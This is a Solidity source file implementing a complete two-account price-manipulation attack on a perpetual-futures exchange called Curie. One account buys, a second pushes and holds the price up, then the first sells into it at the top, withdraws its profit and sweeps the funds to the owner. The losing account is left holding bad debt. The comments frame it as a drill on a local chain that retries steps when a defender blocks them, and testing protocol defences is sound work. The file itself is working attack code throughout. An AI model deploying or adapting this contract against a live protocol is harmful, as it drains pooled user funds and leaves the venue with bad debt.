// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

struct OpenPositionParams {
    address baseToken;
    bool isBaseToQuote;
    bool isExactInput;
    uint256 amount;
    uint256 oppositeAmountBound;
    uint256 deadline;
    uint160 sqrtPriceLimitX96;
    bytes32 referralCode;
}

struct ClosePositionParams {
    address baseToken;
    uint160 sqrtPriceLimitX96;
    uint256 oppositeAmountBound;
    uint256 deadline;
    bytes32 referralCode;
}

interface IClearingHouse {
    function openPosition(OpenPositionParams calldata) external returns (uint256 base, uint256 quote);
    function closePosition(ClosePositionParams calldata) external returns (uint256 base, uint256 quote);
}

interface IVault {
    function deposit(address token, uint256 amount) external;
    function withdraw(address token, uint256 amount) external;
    function getFreeCollateralByToken(address trader, address token) external view returns (uint256);
}

interface IAccountBalance {
    function getTakerPositionSize(address trader, address baseToken) external view returns (int256);
}

interface IPool {
    function slot0() external view returns (uint160, int24, uint16, uint16, uint16, uint8, bool);
}

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
    function approve(address, uint256) external returns (bool);
}

struct Venue {
    IClearingHouse clearingHouse;
    IVault vault;
    IAccountBalance accounts;
    IPool pool;
    IToken usdc;
    address base;
}

/// @notice One of the attacker's trading accounts: its own sender towards Curie, obeying its controller only.
contract PuppetAccount {
    address private immutable CONTROLLER;
    IClearingHouse private immutable CLEARING_HOUSE;
    IVault private immutable VAULT;
    IToken private immutable USDC;
    address private immutable BASE;

    error NotTheController(address caller);

    modifier onlyController() {
        require(msg.sender == CONTROLLER, NotTheController(msg.sender));
        _;
    }

    constructor(Venue memory venue) {
        CONTROLLER = msg.sender;
        (CLEARING_HOUSE, VAULT, USDC, BASE) = (venue.clearingHouse, venue.vault, venue.usdc, venue.base);
    }

    function deposit(uint256 amount) external onlyController {
        USDC.approve(address(VAULT), amount);
        VAULT.deposit(address(USDC), amount);
    }

    function trade(bool sells, bool isExactInput, uint256 amount, uint160 limit) external onlyController {
        CLEARING_HOUSE.openPosition(
            OpenPositionParams(BASE, sells, isExactInput, amount, 0, type(uint256).max, limit, bytes32(0))
        );
    }

    function close() external onlyController {
        CLEARING_HOUSE.closePosition(ClosePositionParams(BASE, 0, 0, type(uint256).max, bytes32(0)));
    }

    function withdraw(uint256 amount) external onlyController {
        VAULT.withdraw(address(USDC), amount);
    }

    function sweep(address to) external onlyController {
        uint256 amount = USDC.balanceOf(address(this));
        if (amount > 0) USDC.transfer(to, amount);
    }
}

/// @notice Two accounts of one attacker on a Curie market, for drills on a local chain. A goes long; B pushes the price
/// up and holds it; then A sells to B at the top, withdraws its profit, and leaves B under water.
/// @dev All control flow is here: `advance` does what can be done now, every step in a try, so that a defender's
/// restriction makes a step fail and be tried again. Prices are square roots as in Uniswap v3; factors on them are in
/// millionths: 1_039_230 is a price step of 8 %.
contract TwoAccountManipulation {
    enum Phase {
        DEPOSIT,
        LONG,
        PUSH,
        HOLD,
        UNLOAD,
        WITHDRAW,
        DONE
    }

    /// @param depositA [1e6 USD] @param depositB [1e6 USD] @param longBase [1e18 base] What A buys at first.
    /// @param top Factor from the price at the first `advance` to the one that B pushes to.
    /// @param longStep How far A's purchase may move the price. @param firstStep How far it and B's first push may.
    /// @param pushStep B's steps. @param unloadStep A's steps down while B buys back up. @param holdSeconds [s] at the top.
    /// @param floor Factor from the first price below which A does not sell while unloading.
    struct Plan {
        uint256 depositA;
        uint256 depositB;
        uint256 longBase;
        uint256 top;
        uint256 longStep;
        uint256 firstStep;
        uint256 pushStep;
        uint256 unloadStep;
        uint256 holdSeconds;
        uint256 floor;
    }

    uint256 private constant ONE = 1e6;
    uint256 private constant DUST = 1e12;
    uint256 private constant HUGE = 1e25;
    uint256 private constant UNLOAD_GAS = 3_500_000;
    uint256 private constant CLOSE_GAS = 2_500_000;

    address public immutable OWNER;
    PuppetAccount public immutable A;
    PuppetAccount public immutable B;
    Venue private _venue;
    Plan private _plan;
    Phase public phase;
    uint160 public top;
    uint160 private _floor;
    uint256 private _topSince;
    uint256 private _lastPush;

    event Step(Phase phase, bool succeeded, bytes reason, uint160 sqrtPriceX96);

    error NotTheOwner(address caller);

    modifier onlyOwner() {
        require(msg.sender == OWNER, NotTheOwner(msg.sender));
        _;
    }

    constructor(Venue memory venue, Plan memory plan) {
        OWNER = msg.sender;
        _venue = venue;
        _plan = plan;
        A = new PuppetAccount(venue);
        B = new PuppetAccount(venue);
    }

    /// @notice Once per block, or more often: does what can be done now, and reverts for nothing.
    function advance() external onlyOwner {
        if (phase == Phase.DEPOSIT && !_begin()) return;
        if (phase == Phase.LONG) return _long();
        if (phase == Phase.PUSH) return _climb();
        if (phase == Phase.HOLD && !_hold()) return;
        if (phase == Phase.UNLOAD && !_unload()) return;
        if (phase == Phase.WITHDRAW) {
            _take(A);
            _take(B);
            if (_venue.vault.getFreeCollateralByToken(address(A), address(_venue.usdc)) < ONE) phase = Phase.DONE;
        }
    }

    /// @notice At any time: closes what can be closed, in both orders, and takes out what can be taken out.
    function cashOut() external onlyOwner {
        _close(A);
        _close(B);
        _close(B);
        _close(A);
        _take(A);
        _take(B);
    }

    function spot() public view returns (uint160 price) {
        (price,,,,,,) = _venue.pool.slot0();
    }

    /// @dev External so that both deposits succeed or none does.
    function depositBoth() external {
        require(msg.sender == address(this), NotTheOwner(msg.sender));
        _venue.usdc.transferFrom(OWNER, address(A), _plan.depositA);
        A.deposit(_plan.depositA);
        _venue.usdc.transferFrom(OWNER, address(B), _plan.depositB);
        B.deposit(_plan.depositB);
    }

    function _begin() private returns (bool) {
        try this.depositBoth() {
            top = _times(spot(), _plan.top);
            _floor = _times(spot(), _plan.floor);
            phase = Phase.LONG;
            return true;
        } catch (bytes memory reason) {
            emit Step(phase, false, reason, spot());
            return false;
        }
    }

    /// @dev A's purchase and B's first push go together: a gap left for a block is an arbitrageur's.
    function _long() private {
        uint160 before = spot();
        int256 held = _position(A);
        uint256 left = uint256(held) >= _plan.longBase ? 0 : _plan.longBase - uint256(held);
        try A.trade(false, false, left, _times(before, _plan.longStep)) {
            emit Step(phase, true, "", spot());
        } catch (bytes memory reason) {
            emit Step(phase, false, reason, spot());
            return;
        }
        if (uint256(_position(A)) * 10 < _plan.longBase * 6) return;
        phase = Phase.PUSH;
        _lastPush = block.number;
        _buy(_times(before, _plan.firstStep));
    }

    function _climb() private {
        if (_lastPush == block.number) return;
        _lastPush = block.number;
        _push();
        if (uint256(spot()) * 1_002_000 >= uint256(top) * ONE) {
            phase = Phase.HOLD;
            _topSince = block.timestamp;
        }
    }

    /// @return over Whether the price was held long enough.
    function _hold() private returns (bool over) {
        if (block.timestamp >= _topSince + _plan.holdSeconds) {
            phase = Phase.UNLOAD;
            return true;
        }
        if (_lastPush != block.number) {
            _lastPush = block.number;
            _push();
        }
    }

    /// @return sold Whether A has nothing left.
    function _unload() private returns (bool sold) {
        while (gasleft() > UNLOAD_GAS) {
            int256 held = _position(A);
            if (held <= int256(DUST)) {
                phase = Phase.WITHDRAW;
                return true;
            }
            _push();
            uint160 limit = uint160(uint256(spot()) * ONE / _plan.unloadStep);
            if (!_sell(uint256(held), limit > _floor ? limit : _floor)) break;
        }
        _push();
        _take(A);
    }

    function _push() private {
        uint160 target = _times(spot(), _plan.pushStep);
        _buy(target < top ? target : top);
    }

    function _buy(uint160 limit) private {
        if (spot() >= limit) return;
        try B.trade(false, true, HUGE, limit) {
            emit Step(phase, true, "", spot());
        } catch (bytes memory reason) {
            emit Step(phase, false, reason, spot());
        }
    }

    function _sell(uint256 amount, uint160 limit) private returns (bool) {
        if (spot() <= limit) return false;
        try A.trade(true, true, amount, limit) {
            emit Step(phase, true, "", spot());
            return true;
        } catch (bytes memory reason) {
            emit Step(phase, false, reason, spot());
            return false;
        }
    }

    function _take(PuppetAccount account) private {
        try _venue.vault.getFreeCollateralByToken(address(account), address(_venue.usdc)) returns (uint256 free) {
            uint256 cash = _venue.usdc.balanceOf(address(_venue.vault));
            if (free > cash) free = cash;
            if (free > 0) {
                try account.withdraw(free) {}
                catch (bytes memory reason) {
                    emit Step(phase, false, reason, spot());
                }
            }
        } catch (bytes memory reason) {
            emit Step(phase, false, reason, spot());
        }
        account.sweep(OWNER);
    }

    function _close(PuppetAccount account) private {
        if (gasleft() < CLOSE_GAS || _position(account) == 0) return;
        try account.close() {
            emit Step(phase, true, "", spot());
        } catch (bytes memory reason) {
            emit Step(phase, false, reason, spot());
        }
    }

    function _position(PuppetAccount account) private view returns (int256) {
        return _venue.accounts.getTakerPositionSize(address(account), _venue.base);
    }

    function _times(uint160 price, uint256 factor) private pure returns (uint160) {
        return uint160(uint256(price) * factor / ONE);
    }
}
